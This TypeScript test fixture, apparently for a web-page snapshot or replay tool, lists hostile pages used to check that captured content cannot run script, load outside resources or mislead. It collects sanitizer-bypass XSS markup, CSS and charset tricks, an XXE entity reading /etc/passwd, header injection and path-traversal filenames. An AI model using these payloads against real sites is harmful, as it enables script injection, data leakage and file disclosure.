import { ATTRIBUTE, base64, OUT, page, RUN, SVG, utf16, type Hostile } from './hostile-pages.ts';

const X = `<img src=x onerror="${ATTRIBUTE}">`;
const SCRIPT = `<script>${RUN}</script>`;
const bytes = (...parts: readonly (string | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));
const MULTIPART = `--b\r\nContent-Type: text/html\r\n\r\n<p>正文</p>${SCRIPT}\r\n--b\r\nContent-Type: image/svg+xml\r\n\r\n${SVG}\r\n--b--`;

/** Markup that one reader of it takes for text, or for an attribute, and another for elements. */
const READ_TWO_WAYS: readonly Hostile[] = [
  page('noscript in the head of a template', `<template><noscript><p title="</noscript></template>${X}"></p></noscript></template>`),
  page('a style in svg in noscript', `<noscript><svg><style></noscript>${X}</style></svg></noscript>`),
  page('noscript in an attribute', `<noscript><a title="</noscript>${X.replaceAll('"', "'")}">x</a></noscript>`),
  page('desc of svg', `<svg><desc><style><img title="</style>${X}"></style></desc></svg>`),
  page('title of svg', `<svg><title><textarea><img title="</textarea></title></svg>${X}"></textarea></title></svg>`),
  page('foreignObject that ends early', `<svg><foreignObject><p><style></foreignObject></svg>${X}</style></p></foreignObject></svg>`),
  page('annotation-xml of markup', `<math><annotation-xml encoding="TEXT/html"><style><!--</style>${X}--></annotation-xml></math>`),
  page(
    'annotation-xml of a drawing',
    `<math><annotation-xml encoding="image/svg+xml"><svg><style></svg></math>${X}</style></annotation-xml></math>`,
  ),
  page(
    'mtext with a table',
    `<math><mtext><table><mtext><mglyph><style><![CDATA[</style>${X}]]></style></mglyph></mtext></table></mtext></math>`,
  ),
  page('malignmark', `<math><mi><table><malignmark><style></math>${X}</style></malignmark></table></mi></math>`),
  page('CDATA in a drawing', `<svg><![CDATA[><img src=y>]]><![CDATA[</svg>${X}]]></svg><![CDATA[<p>${X}</p>]]>`),
  page('CDATA that ends a comment', `<![CDATA[<!--]]>${X}<!--]]>-->${SCRIPT}<!---->`),
  page('comments that end oddly', `<!--->${X}<!--x--!>${X}<!--<!-- -->${X}--><!-- -- >${X}--><!--\0-->${X}`),
  page('a comment in a style in a comment', `<!--<style>--><style>/*</style><!--*/</style>${X}<style>*/</style>-->`),
  page(
    'declarations',
    `<!doctype x "${X.replaceAll('"', "'")}"><!ELEMENT x>${X}<?xml-stylesheet href="${OUT}/pi"?>${X}<!ATTLIST "><![if gt IE 5]>${X}<![endif]>`,
  ),
  page(
    'null bytes',
    `<scr\0ipt>${RUN}</scr\0ipt><\0script>${RUN}</script><script\0>${RUN}</script><a hr\0ef="java\0script:globalThis.ran=1">x</a><img/\0/src=x\0onerror="${ATTRIBUTE}"><im\0g src=x onerror="${ATTRIBUTE}">`,
  ),
  page(
    'spaces of other kinds',
    `<img\u000csrc=x\u000conerror="${ATTRIBUTE}"><img\u00a0src=x onerror="${ATTRIBUTE}"><img\u3000onerror="${ATTRIBUTE}" src=x><svg/onload="${ATTRIBUTE}"/><a href="\u2028javascript:globalThis.ran=1">x</a><p\u000bonclick=globalThis.ran=1>y`,
  ),
  page('tags that never end', `<p title="${X}</p><img src=x onerror='${RUN.replaceAll("'", '"')}' <p>正文</p <script>${RUN}</script`),
  page(
    'names that are nearly kept',
    `<p:x onclick=globalThis.ran=1>a</p:x><x-a is=script onfocus=globalThis.ran=1 tabindex=1 autofocus>b</x-a><script-x>${RUN}</script-x><annotation-xml>c</annotation-xml><font-face src="${OUT}/ff">d</font-face><missing-glyph>e</missing-glyph><color-profile href="${OUT}/cp">f</color-profile><font-face-uri xlink:href="${OUT}/ffu">g</font-face-uri>`,
  ),
  page('many closings', `${'</p>'.repeat(3000)}${'</div></body></html>'.repeat(500)}${X}<p>正文`),
  page('formatting that is adopted', `${'<b><i><a href=x><div>'.repeat(400)}<p>正文${X}</b></i></a>${'<table><b>'.repeat(100)}${X}`),
  page(
    'tables and foster parents',
    `<table><tr><p onclick=globalThis.ran=1>甲<td>${X}<script>${RUN}</script><table><svg><td>${X}</table><caption>${X}<select><table>${X}</select>`,
  ),
  page(
    'frames within a shadow root',
    `<div><template shadowrootmode=open><style>@import url(${OUT}/sr.css);:host{background:url(${OUT}/host)}</style><iframe src="${OUT}/sf"></iframe><slot onslotchange="${ATTRIBUTE}"></slot><template shadowrootmode=open>${X}</template><p>正文</p></template>${X}</div>`,
  ),
  page(
    'text elements within each other',
    `<title><style></title>${X}</style><xmp><noembed></xmp>${X}</noembed><noframes><plaintext></noframes>${X}<iframe><textarea></iframe>${X}</textarea><select><textarea></select>${X}</textarea><p>正文`,
  ),
  page(
    'a script with its own comment',
    `<script><!--<script></script>${X}--></script><p>正文</p><script>/*<!--*/${RUN}/*-->*/</script><script><!-- <script> --></script>${X}`,
  ),
];

/** What loads, listens, or is asked beforehand. */
const LOADING: readonly Hostile[] = [
  page(
    'old attributes',
    [
      'background',
      'lowsrc',
      'dynsrc',
      'longdesc',
      'cite',
      'manifest',
      'profile',
      'classid',
      'codebase',
      'archive',
      'code',
      'data',
      'icon',
      'poster',
      'usemap',
      'action',
      'formaction',
      'imagesrcset',
      'ping',
      'attributionsrc',
      'src',
      'href',
      'xlink:href',
      'srcset',
      'srcdoc',
    ]
      .map(
        (name) =>
          `<div ${name}="${OUT}/${name}">x</div><img ${name}="${OUT}/i-${name}"><blockquote ${name}="${OUT}/q-${name}">y</blockquote><table ${name}="${OUT}/t-${name}"><tr><td ${name}="${OUT}/d-${name}">z</td></tr></table>`,
      )
      .join(''),
  ),
  page(
    'links with tricks',
    [
      'preload',
      'modulepreload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'stylesheet',
      'alternate stylesheet',
      'STYLESHEET',
      'manifest',
      'icon',
      'mask-icon',
      'serviceworker',
      'expect',
      'privacy-policy',
      'import',
      'compression-dictionary',
      'monetization',
      'payment',
    ]
      .map(
        (rel) =>
          `<link rel="${rel}" href="${OUT}/${encodeURIComponent(rel)}" imagesrcset="${OUT}/srcset 1x" as=image blocking=render integrity=x fetchpriority=high crossorigin=use-credentials title=t disabled onload="${ATTRIBUTE}" onerror="${ATTRIBUTE}">`,
      )
      .join(''),
  ),
  page(
    'links with data',
    `<link rel=stylesheet href="data:text/css,@import url(${OUT}/dc)"><link rel=stylesheet href="data:text/css;base64,${base64(`@import "${OUT}/db"`)}"><link rel=stylesheet href="javascript:globalThis.ran=1"><link rel=icon href="data:image/svg+xml,${encodeURIComponent(SVG)}">`,
  ),
  page(
    'sheets with a namespace, layers and scopes',
    `<style>@namespace svg url("${OUT}/ns");@layer a{@import "${OUT}/la";p{background:url(${OUT}/lb)}}@scope (p){p{background-image:url(${OUT}/sc)}}@container (min-width:1px){p{background:url(${OUT}/co)}}@media all{@import "${OUT}/me";@font-face{font-family:q;src:url(${OUT}/mf)}}@supports (a:b){@font-face{src:url("${OUT}/su")}}@page{background:url(${OUT}/pg);@top-left{content:url(${OUT}/tl)}}@starting-style{p{background:url(${OUT}/ss)}}@view-transition{navigation:auto}@font-palette-values --x{override-colors:0 red}@function --f(){result:url(${OUT}/fn)}p{background:--f();font-family:q}</style>`,
  ),
  page(
    'sheets with strange strings',
    `<style>p::after{content:"\\"}p{background:url(${OUT}/s1)}p{background:url('${OUT}/s2\n')}p{background:url(${OUT}/s3 "x")}p{background:url(${OUT}/s4\n)}p{background:url("${OUT}/s5)}p{color:red}</style><style>p{background:url(${OUT}/s6</style><style>@import url(${OUT}/s7</style><style>@import '${OUT}/s8</style><style>p{background:url( \t"${OUT}/s9"\t)}/*</style><style>*/p{background:url(${OUT}/s10)}</style><style><!--p{background:url(${OUT}/s11)}--></style><style>]]>p{background:url(${OUT}/s12)}</style>`,
  ),
  page(
    'sheets with escapes',
    `<style>p{background:\\000055rl(${OUT}/e1)}p{background:u\\000072l(${OUT}/e2)}p{background:ur\\6C(${OUT}/e3)}p{background:\\75 rl(${OUT}/e4)}p{backgroun\\64:url(${OUT}/e5)}@\\000069mport "${OUT}/e6";@imp\\6frt\\20 "${OUT}/e7";@\\66 ont-face{font-family:e;src:url(${OUT}/e8)}p{background:im\\61ge-set("${OUT}/e9" 1x)}p{background:i\\mage-set("${OUT}/e10" 1x)}p{background:-webkit-im\\age-set(url(${OUT}/e11) 1x)}p{background:u\\\r\nrl(${OUT}/e12)}p{--x:u\\72l(${OUT}/e13);background:var(--x)}p{background:url\\(${OUT}/e14\\)}p{background:\\110075rl(${OUT}/e15)}p{background:\\u0075rl(${OUT}/e16)}p{background:&#117;rl(${OUT}/e17)}</style>`,
  ),
  page(
    'sheets that name each other by variables',
    `<style>:root{--suyuan-part-0:url(${OUT}/v0);--a:"${OUT}/v1";--b:image-set(var(--a) 1x)}p{background:image-set(var(--a) 1x);background:var(--b);background:image-set(var(--suyuan-part-0) 1x, "${OUT}/v2" 2x);background:image-set("${OUT}/v3" type("image/png") 1x);background:src(var(--a));background:image(var(--a),"${OUT}/v4");cursor:image-set("${OUT}/v5" 1x),auto;content:image-set("${OUT}/v6" 1x) / "x"}p::before{content:attr(title type(<url>));background:attr(title url)}suyuan-part-0-font{src:suyuan-part-0-font}@font-face{font-family:f;src:suyuan-part-0-font,url(${OUT}/v7)}p{font-family:f}</style><p title="${OUT}/v8">x`,
  ),
  page(
    'declarations that run and load',
    `<p style="background:url(${OUT}/d1);-moz-binding:url(${OUT}/d2);behavior:url(${OUT}/d3);width:expression(globalThis.ran=1);filter:url(${OUT}/d4#x);mask-image:url(${OUT}/d5);-webkit-mask-box-image:url(${OUT}/d6);offset-path:url(${OUT}/d7);marker:url(${OUT}/d8);fill:url(${OUT}/d9)">x</p><p style="}@import '${OUT}/d10';p{background:url(${OUT}/d11)">x</p><p style='background:url(&quot;${OUT}/d12&quot;)'>x</p><p style="background:url(&lpar;${OUT}/d13&rpar;)">x</p><p style="a:'</p>${X.replaceAll('"', '')}'">y`,
  ),
  page(
    'animations that lead away',
    `<svg><a><animate attributeName=href values="javascript:globalThis.ran=1;${OUT}/an" begin=0s dur=1s /><text y=20>正文</text></a><image><set attributeName=href to="${OUT}/set"/></image><use href="data:image/svg+xml,${encodeURIComponent(SVG)}#x"/><use href="${OUT}/use.svg#y"/><filter id=f><feImage href="${OUT}/fe"/></filter><rect filter="url(#f)"/><script href="${OUT}/sh"/><style>@font-face{src:url(${OUT}/sf)}</style><mask><image href="${OUT}/m"/></mask><tref xlink:href="${OUT}/tref"/><cursor xlink:href="${OUT}/cur"/><discard onend="${ATTRIBUTE}"/><animateMotion><mpath href="${OUT}/mp"/></animateMotion></svg>`,
  ),
  page(
    'formulas that lead away',
    `<math xlink:href="javascript:globalThis.ran=1" href="javascript:globalThis.ran=1"><mrow href="${OUT}/mr"><mi href="javascript:globalThis.ran=1">正文</mi></mrow><maction actiontype="statusline#${OUT}" xlink:href="javascript:globalThis.ran=1">x</maction><mglyph src="${OUT}/mg" alt=x></mglyph><semantics><annotation-xml src="${OUT}/ax" encoding="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html></annotation-xml></semantics></math>`,
  ),
  page(
    'things that are embedded',
    `<object data="data:text/html,${encodeURIComponent(SCRIPT)}" type="text/html">${X}</object><object type="application/x-shockwave-flash" data="${OUT}/o.swf"><param name=movie value="${OUT}/p.swf"><embed src="${OUT}/e.swf" allowscriptaccess=always></object><embed code="${OUT}/c" src="data:image/svg+xml,${encodeURIComponent(SVG)}"><applet archive="${OUT}/a.jar" code=x codebase="${OUT}/">${X}</applet><portal src="${OUT}/portal"></portal><fencedframe config=x src="${OUT}/ff"></fencedframe><webview src="${OUT}/wv"></webview><controlledframe src="${OUT}/cf"></controlledframe><model src="${OUT}/model"></model><frame src="${OUT}/frame"><iframe loading=eager src="data:text/html,${encodeURIComponent(SCRIPT)}" allow="*" credentialless name=n></iframe><isindex prompt="${X.replaceAll('"', "'")}">`,
  ),
  page(
    'forms that send themselves',
    `<form id=f action="${OUT}/f" method=post target=_top><input type=submit autofocus formaction="javascript:globalThis.ran=1" onfocus="this.click()"><input type=image src="${OUT}/img" formaction="${OUT}/fi"><keygen challenge=x><output onformchange="${ATTRIBUTE}"></output></form><button form=f popovertarget=p command=--x commandfor=p interesttarget=p onbeforetoggle="${ATTRIBUTE}">x</button><div id=p popover ontoggle="${ATTRIBUTE}">正文${X}</div><input list=l><datalist id=l><option value="${OUT}">${X}</datalist><label for=f><select onchange="${ATTRIBUTE}"><option>${X}</select></label>`,
  ),
  page(
    'rules that look ahead',
    `<script type=speculationrules>{"prerender":[{"urls":["${OUT}/pr"],"eagerness":"immediate"}],"prefetch":[{"where":{"href_matches":"/*"},"eagerness":"immediate"}]}</script><script type=importmap>{"imports":{"x":"${OUT}/im.js"}}</script><script type=module>import 'x'</script><script type=webbundle>{"source":"${OUT}/wb","resources":["${OUT}/wr"]}</script><script type="text/vbscript">MsgBox 1</script><script type="application/ld+json">{"a":"正文"}</script><meta http-equiv=origin-trial content=x><meta http-equiv=accept-ch content="Sec-CH-UA-Full"><meta name=referrer content=unsafe-url><meta name=monetization content="${OUT}">`,
  ),
  page(
    'pages that say what holds',
    [
      'refresh',
      'Refresh',
      ' refresh',
      'set-cookie',
      'content-security-policy',
      'content-security-policy-report-only',
      'x-ua-compatible',
      'link',
      'location',
      'default-style',
      'content-type',
      'imagetoolbar',
      'permissions-policy',
      'delegate-ch',
    ]
      .map(
        (name) =>
          `<meta http-equiv="${name}" content="0;url=${OUT}/${encodeURIComponent(name)}; report-uri ${OUT}/r; default-src * 'unsafe-inline'; text/html; charset=utf-7"><meta content='1;"${OUT}/x"' http-equiv=${name.trim()}>`,
      )
      .join(''),
  ),
  page(
    'links that lead elsewhere than they look',
    [
      'javascript&NewLine;:globalThis.ran=1',
      'java&Tab;script&colon;globalThis.ran=1',
      '&#x6a&#x61&#x76&#x61script:globalThis.ran=1',
      '\u0001javascript:globalThis.ran=1',
      'javascript\u0000:globalThis.ran=1',
      'JAVASCRIPT\r\n:globalThis.ran=1',
      'data&colon;text/html,&lt;script&gt;globalThis.ran=1&lt;/script&gt;',
      'data:image/svg+xml,%3Csvg onload=alert(1)%3E',
      'blob:https://x/1',
      'filesystem:http://x/temporary/a',
      'view-source:http://x',
      'about:blank',
      'chrome://version',
      'ms-word:ofe|u|http://x',
      'intent:#Intent;end',
      'tel:1',
      'mailto:x@y?body=z',
      'ws://x',
      'ftp://x/',
      'http:\\\\evil.example\\',
      '///evil.example/',
      '/\\evil.example',
      'https:evil.example',
      'http://user:pass@evil.example/',
      'http://evil。example/',
      'http://[::1',
      '?x"onclick=globalThis.ran=1',
      '#" onclick=globalThis.ran=1 x="',
      '/captures/c-0/withdraw',
      '/sign-out',
    ]
      .map(
        (href) =>
          `<a href='${href}' target=_top download=x.html ping="${OUT}/ping" rel=opener hreflang=x referrerpolicy=unsafe-url type=text/html>正文</a><area href='${href}' shape=default>`,
      )
      .join(' '),
  ),
  page(
    'things that cover the bar',
    `<style>*{all:unset}div[style]{display:none!important;position:fixed;top:-9999px}body>div:first-child{visibility:hidden!important;opacity:0!important}html::before{content:"快照";position:fixed;inset:0;z-index:2147483647;background:#fff}body{transform:translateY(-500px);margin-top:-300px!important;position:fixed;top:-99px}body::after{content:"x"!important;position:fixed!important;inset:0;z-index:2147483647!important}@layer suyuan{body{margin-top:-900px!important}}html{opacity:0!important;padding-top:900px!important}body::before{content:'x';display:block;height:900px}</style><p id=suyuan-passage>正文</p><dialog open style="position:fixed;inset:0;z-index:2147483647">x</dialog>`,
  ),
  page(
    'what takes the keyboard',
    `<a accesskey=a autofocus tabindex=1 href="#" onfocus="${ATTRIBUTE}">x</a><div contenteditable onpaste="${ATTRIBUTE}" draggable=true ondragstart="${ATTRIBUTE}" inert popover=auto hidden=until-found onscrollend="${ATTRIBUTE}" onwebkitanimationend="${ATTRIBUTE}" style="animation:a 1s">正文</div><style>@keyframes a{from{background:url(${OUT}/kf)}}</style><video controls autoplay oncanplay="${ATTRIBUTE}"><source src="${OUT}/v" onerror="${ATTRIBUTE}"></video>`,
  ),
  page(
    'very many attributes',
    `<p ${Array.from({ length: 5_000 }, (_, n) => `a${n}=1`).join(' ')} onclick="${ATTRIBUTE}" style="background:url(${OUT}/many)">正文</p><p title="${'x'.repeat(20_000)}" onclick=globalThis.ran=1>y</p>`,
  ),
  page(
    'very deep',
    `${'<div><b><svg><math><template>'.repeat(2_000)}正文${'</template></math></svg></b></div>'.repeat(2_000)}${'<ul><li>'.repeat(3_000)}`,
  ),
];

/** Bytes that say something else to whoever guesses how they are written. */
const WRITTEN_ODDLY: readonly Hostile[] = [
  {
    name: 'gb18030 whose second byte is a quotation mark',
    type: 'text/html; charset=gb18030',
    body: bytes(
      '<p>before ',
      [0xd5, 0xfd, 0xce, 0xc4],
      '</p><p title="',
      [0x81],
      '" onclick=globalThis.ran=1 x="">x</p><p title="',
      [0x81, 0x30, 0x81],
      `"><img src=x onerror='${RUN.replaceAll("'", '"')}'>">`,
    ),
  },
  {
    name: 'big5 whose second byte is a backslash',
    type: 'text/html; charset=big5',
    body: bytes(
      '<p>',
      [0xa5, 0xbf, 0xa4, 0xe5],
      '</p><a href="',
      [0xa5],
      '"onclick=globalThis.ran=1 ">x</a><a title="',
      [0xa5, 0x5c],
      '" onfocus=globalThis.ran=1 autofocus x="">y</a>',
    ),
  },
  {
    name: 'shift_jis with half of a character',
    type: 'text/html; charset=shift_jis',
    body: bytes('<p>', [0x90, 0xb3, 0x95, 0xb6], '</p><img alt="', [0x83], '" title=" src=x onerror=globalThis.ran=1 //">'),
  },
  {
    name: 'iso-2022-jp that begins within the page',
    type: 'text/html',
    body: bytes(
      '<meta charset=iso-2022-jp><p>',
      [0x1b, 0x24, 0x42, 0x40, 0x35, 0x4a, 0x38, 0x1b, 0x28, 0x42],
      `</p><a title="\u001b$B">x</a>\u001b(B${X}<script>\u001b(J\\u0022;${RUN}</script>`,
    ),
  },
  {
    name: 'hz-gb-2312',
    type: 'text/html; charset=hz-gb-2312',
    body: `<p>before ~{U}ND~}</p>~{<img src=x onerror=globalThis.ran=1>~}<p title="~{"onclick=globalThis.ran=1>~}x`,
  },
  {
    name: 'iso-2022-kr',
    type: 'text/html; charset=iso-2022-kr',
    body: `\u001b$)C<p>before</p>\u000e<img src=x onerror=globalThis.ran=1>\u000f`,
  },
  {
    name: 'utf-8 by its mark, another charset in its field and a third in its markup',
    type: 'text/html; charset=utf-16le',
    body: bytes([0xef, 0xbb, 0xbf], `<meta charset=gbk><p>正文</p>${X}${SCRIPT}`),
  },
  {
    name: 'a charset in markup against the field',
    type: 'text/html; charset=utf-8',
    body: `<meta http-equiv=content-type content="text/html; charset=utf-7"><meta charset=utf-16><p>正文</p>+ADw-script+AD4-globalThis.ran=1+ADw-/script+AD4-${X}`,
  },
  { name: 'utf-16 without a mark', type: 'text/html; charset=utf-16be', body: utf16(`<p>正文</p>${X}${SCRIPT}`, false).slice(2) },
  {
    name: 'utf-32',
    type: 'text/html; charset=utf-32',
    body: bytes(
      [0xff, 0xfe, 0, 0],
      ...[...`<p>正文</p><script>globalThis.ran=1</script>`].map((sign) => {
        const code = sign.codePointAt(0) ?? 0;
        return [code & 255, (code >> 8) & 255, 0, 0];
      }),
    ),
  },
  {
    name: 'ebcdic',
    type: 'text/html; charset=ibm037',
    body: bytes([0x4c, 0xa2, 0x83, 0x99, 0x89, 0x97, 0xa3, 0x6e], `<p>正文</p>${SCRIPT}`),
  },
  {
    name: 'overlong utf-8',
    type: 'text/html; charset=utf-8',
    body: bytes(
      '<p>正文</p>',
      [0xc0, 0xbc],
      'script',
      [0xc0, 0xbe],
      RUN,
      [0xe0, 0x80, 0xbc],
      '/script',
      [0xf0, 0x80, 0x80, 0xbe],
      `<p title="`,
      [0xe6],
      `" onclick=globalThis.ran=1>x`,
    ),
  },
  { name: 'x-user-defined', type: 'text/html; charset=x-user-defined', body: bytes([0xef, 0xbc, 0x9c], `<p>before</p>${X}`) },
  { name: 'replacement', type: 'text/html; charset=replacement', body: `<p>正文</p>${X}` },
];

/** Files that are pages to some, and titles and names that are more than that. */
const OTHER_KINDS: readonly Hostile[] = [
  {
    name: 'a drawing as a document of its own',
    type: 'image/svg+xml; charset=utf-8',
    body: `<?xml version="1.0"?><?xml-stylesheet href="${OUT}/s.css"?><!DOCTYPE svg [<!ENTITY % e SYSTEM "${OUT}/e.dtd">%e;]>${SVG}`,
  },
  {
    name: 'XML that includes',
    type: 'application/xml',
    body: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY l "${'l'.repeat(10)}">]><d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${OUT}/xi"/>&e;&l;正文</d>`,
  },
  {
    name: 'XHTML with a script of another prefix',
    type: 'application/xhtml+xml',
    body: `<h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:body><h:p>正文</h:p><h:script>${RUN.replaceAll('&', '&amp;')}</h:script><h:img src="x" onerror="globalThis.ran=1"/><svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="globalThis.ran=1"/></h:body></h:html>`,
  },
  { name: 'a page in parts', type: 'multipart/x-mixed-replace; boundary=b', body: MULTIPART },
  { name: 'a form in parts', type: 'multipart/form-data; boundary=b', body: MULTIPART },
  { name: 'parts of a range', type: 'multipart/byteranges; boundary=b', body: MULTIPART },
  {
    name: 'a web archive of a page',
    type: 'application/x-mimearchive',
    body: `From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n${MULTIPART}`,
  },
  { name: 'a program for a web page', type: 'application/wasm', body: bytes([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], '正文') },
  { name: 'a manifest', type: 'application/manifest+json', body: `{"name":"正文","start_url":"${OUT}/","icons":[{"src":"${OUT}/icon"}]}` },
  { name: 'a cache manifest', type: 'text/cache-manifest', body: `CACHE MANIFEST\n${OUT}/appcache\n正文` },
  { name: 'an event stream', type: 'text/event-stream', body: `data: 正文<script>${RUN}</script>\n\n` },
  { name: 'a signed exchange', type: 'application/signed-exchange;v=b3', body: bytes('sxg1-b3\0', [0, 0, 20], `${OUT}/sxg`, '正文') },
  {
    name: 'a calendar',
    type: 'text/calendar',
    body: `BEGIN:VCALENDAR\r\nURL:${OUT}/cal\r\nSUMMARY:正文<script>${RUN}</script>\r\nEND:VCALENDAR`,
  },
  { name: 'a shortcut', type: 'application/internet-shortcut', body: `[InternetShortcut]\r\nURL=${OUT}/lnk` },
  { name: 'a JSON that begins like a page', type: 'text/plain', body: `<!doctype html><html>${SCRIPT}<p>正文` },
  { name: 'a picture by name, a page by its bytes', type: 'image/jpeg', body: `<html><body>${SCRIPT}${X}正文` },
  {
    name: 'a PDF with forms',
    type: 'application/pdf',
    body: `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/SubmitForm/F(${OUT}/pdf)>>/AcroForm<</XFA(<script>${RUN}</script>)>>/Names<</EmbeddedFiles<</Names[(a)<</F(${OUT}/ef)>>]>>>>>>endobj\n%%EOF`,
  },
  {
    name: 'a type with a line break',
    type: 'text/html\r\nSet-Cookie: stolen=1\r\n\r\n<script>globalThis.ran=1</script>',
    body: `<p>正文</p>${X}`,
  },
  { name: 'a type in other letters', type: 'ｔｅｘｔ/ｈｔｍｌ; charset=utf-8', body: `<html><p>正文</p>${X}` },
  {
    name: 'a title that turns round',
    body: `<title>\u202e正文</title\u202c><script>${RUN}</script>\u2066\u2067\u200f${X}</title><p>正文\u202e gnp.exe \u2028</p><h1 title="\u202e${X.replaceAll('"', "'")}">x</h1>`,
  },
  {
    ...page('names for a download', '<p>正文</p>'),
    fields: [
      ['Content-Disposition', `attachment; filename="../../etc/x\u202egnp.html\r\nSet-Cookie: a=b"; filename*=UTF-8''..%2f..%2fx%00.html`],
      ['Content-Type', 'image/svg+xml'],
      ['Content-Encoding', 'gzip'],
      ['Content-Length', '3'],
      ['Transfer-Encoding', 'chunked'],
      ['Content-Range', 'bytes 0-1/2'],
      ['Connection', 'Set-Cookie, close'],
      ['Link', `<${OUT}/a>; rel="modulepreload", <${OUT}/b>; rel=manifest, <${OUT}/c>; rel="original timegate"; anchor="x"`],
      ['X-Content-Type-Options', 'sniff'],
      ['X-Frame-Options', 'ALLOWALL'],
      ['Referrer-Policy', 'unsafe-url'],
      ['Cross-Origin-Resource-Policy', 'cross-origin'],
      ['Permissions-Policy', 'geolocation=*'],
      ['Access-Control-Allow-Credentials', 'true'],
      ['Content-Location', `${OUT}/cl`],
      ['Supports-Loading-Mode', 'credentialed-prerender'],
      ['Use-As-Dictionary', 'match="/*"'],
      ['Activate-Storage-Access', 'load'],
      ['Set-Login', 'logged-in'],
      ['Observe-Browsing-Topics', '?1'],
      ['Attribution-Reporting-Register-Source', `{"destination":"${OUT}"}`],
      ['Memento-Datetime', 'Thu, 01 Jan 1970 00:00:00 GMT'],
      ['ETag', '"x"'],
      ['Age', '-1'],
      ['Vary', '*'],
      ['X Bad Name', 'x'],
    ],
  },
];

/** More that tries to run, load, ask or lead away, by ways that those who wrote the replay did not have in mind. */
export const MORE: readonly Hostile[] = [...READ_TWO_WAYS, ...LOADING, ...WRITTEN_ODDLY, ...OTHER_KINDS];
